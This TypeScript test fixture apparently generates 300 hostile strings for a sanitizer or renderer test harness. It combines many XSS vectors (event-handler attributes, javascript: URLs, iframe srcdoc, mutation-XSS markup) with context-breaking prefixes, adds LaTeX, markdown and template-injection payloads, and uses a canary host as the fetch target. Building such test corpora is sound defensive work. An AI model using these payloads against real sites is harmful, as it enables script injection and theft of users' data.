/** Nobody answers there; a request to it is seen. */
export const CANARY = 'canary.invalid'

/** What a text may try: a hook that the harness counts, a dialog, a request. */
const acts = ['hook()', 'alert(1)', `fetch('//${CANARY}/')`]

const tags: ReadonlyArray<(act: string) => string> = [
  (act) => `<script data-canary>${act}</script>`,
  (act) => `<img data-canary src=x onerror="${act}">`,
  (act) => `<svg data-canary onload="${act}">`,
  (act) => `<svg data-canary><script>${act}</script></svg>`,
  (act) => `<svg data-canary><animate onbegin="${act}" attributeName=x dur=1s>`,
  (act) => `<body data-canary onpageshow="${act}">`,
  (act) => `<iframe data-canary srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<iframe data-canary src="javascript:parent.${act}"></iframe>`,
  (act) => `<details data-canary open ontoggle="${act}"><summary>x</summary></details>`,
  (act) => `<video data-canary><source onerror="${act}"></video>`,
  (act) => `<audio data-canary src=x onerror="${act}"></audio>`,
  (act) => `<input data-canary autofocus onfocus="${act}">`,
  (act) => `<textarea data-canary autofocus onfocus="${act}"></textarea>`,
  (act) => `<marquee data-canary onstart="${act}">x</marquee>`,
  (act) => `<object data-canary data="javascript:${act}"></object>`,
  (act) => `<embed data-canary src="javascript:${act}">`,
  (act) => `<a data-canary href="javascript:${act}">x</a>`,
  (act) => `<form data-canary action="javascript:${act}"><button>x</button></form>`,
  (act) => `<meta data-canary http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<math><mtext><table><mglyph><style><!--</style><img data-canary title="--&gt;" src=x onerror="${act}">`,
  (act) => `<IMG DATA-CANARY """><SCRIPT>${act}</SCRIPT>">`,
  (act) => `<img/data-canary/src=x/onerror=${act}//`,
  (act) => `<style data-canary>@import '//${CANARY}/';</style><p data-canary onanimationend="${act}">`,
  (act) => `<link data-canary rel=stylesheet href="//${CANARY}/" onload="${act}">`,
]

/** Ways out of what a text may have been put into. */
const breaks: ReadonlyArray<(text: string) => string> = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `</textarea></title></script>${text}`,
  (text) => `$x${text}$`,
]

const others = [
  '$\\href{javascript:hook()}{x}$',
  '\\(\\url{javascript:hook()}\\)',
  '$\\htmlData{canary=1}{x}$',
  '$\\htmlStyle{background:url(//canary.invalid/)}{x}$',
  '\\(\\includegraphics{//canary.invalid/x.png}\\)',
  '$\\text{<img data-canary src=x onerror=hook()>}$',
  '[x](javascript:hook())',
  '![x](//canary.invalid/x.png)',
  '{{constructor.constructor("hook()")()}}',
  "'-hook()-'",
  '"-hook()-"',
  '&lt;img data-canary src=x onerror=hook()&gt;',
]

/** 300 texts that would run, load or draw something if anything read them as HTML, as a script or as a link. */
export const hostileTexts: readonly string[] = [
  ...breaks.flatMap((out) => tags.flatMap((tag) => acts.map((act) => out(tag(act))))),
  ...others,
]
